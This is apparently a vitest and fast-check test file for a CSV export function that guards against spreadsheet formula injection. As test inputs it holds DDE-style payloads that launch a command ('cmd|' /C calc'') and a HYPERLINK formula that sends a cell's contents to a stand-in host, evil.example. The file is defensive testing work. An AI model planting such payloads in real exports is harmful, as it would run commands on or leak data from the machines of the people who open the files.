import { fc, test } from '@fast-check/vitest';
import { describe, expect, it } from 'vitest';
import { csvCell } from '../../../server/requests/export.ts';

/** The one cell back as a spreadsheet reads it: RFC 4180 quotes removed. */
const unquote = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell);

/** What a spreadsheet may run as a formula: =, +, -, @ first (after any leading whitespace), or a tab or CR first. */
const formulaTrigger = /^[\t\r]|^\s*[=+\-@]/;

/** Left unguarded, a cell that starts like a formula may hold digits and arithmetic only: no name, no reference. */
const arithmeticOnly = /^[+-]?[\d ().,+-]*$/;

describe('CSV formula guard', () => {
  it('neutralises the payloads from the attack, whatever comes first', () => {
    expect(csvCell(`-2+3+cmd|' /C calc'!A0`)).toBe(`'-2+3+cmd|' /C calc'!A0`);
    expect(csvCell(`+1+cmd|' /C calc'!A0`)).toBe(`'+1+cmd|' /C calc'!A0`);
    expect(csvCell('-1+HYPERLINK("http://evil.example/?x="&A1,"Open")')).toBe(
      `"'-1+HYPERLINK(""http://evil.example/?x=""&A1,""Open"")"`,
    );
    expect(csvCell(' =1+1')).toBe("' =1+1");
    expect(csvCell('   @SUM(A1:A9)')).toBe("'   @SUM(A1:A9)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('\n-1+A1')).toBe(`"'\n-1+A1"`);
    expect(csvCell('-(1)+A1')).toBe("'-(1)+A1");
    expect(csvCell('+ 513 cmd')).toBe("'+ 513 cmd");
  });

  it('leaves plain numbers and phone numbers as they are', () => {
    for (const plain of ['-5', '+5', '-2.75', '+1,250.00', '+1 513 555 0100', '+1 (513) 555-0100', '+15135550100']) {
      expect(csvCell(plain)).toBe(plain.includes(',') ? `"${plain}"` : plain);
    }
    expect(csvCell('(513) 555-0100')).toBe('(513) 555-0100');
    expect(csvCell('Jane')).toBe('Jane');
  });

  const triggerFirst = fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '  +', ' -', '\u00a0='), fc.string())
    .map(([a, b]) => a + b);
  const phoneLike = fc.stringMatching(/^[+-]?[\d ().-]{0,16}[a-z|!=(]?[\d ().+-]{0,4}$/);
  const anyCell = fc.oneof(fc.string(), fc.string({ unit: 'binary' }), triggerFirst, phoneLike);

  test.prop([anyCell])(
    'no cell of any input starts like a formula unless it is digits and arithmetic only',
    (value) => {
      const cell = unquote(csvCell(value));
      if (formulaTrigger.test(cell)) expect(cell).toMatch(arithmeticOnly);
      // The guard adds one apostrophe and nothing else.
      expect(cell.startsWith("'") ? cell.slice(1) : cell).toBe(value);
    },
  );
});
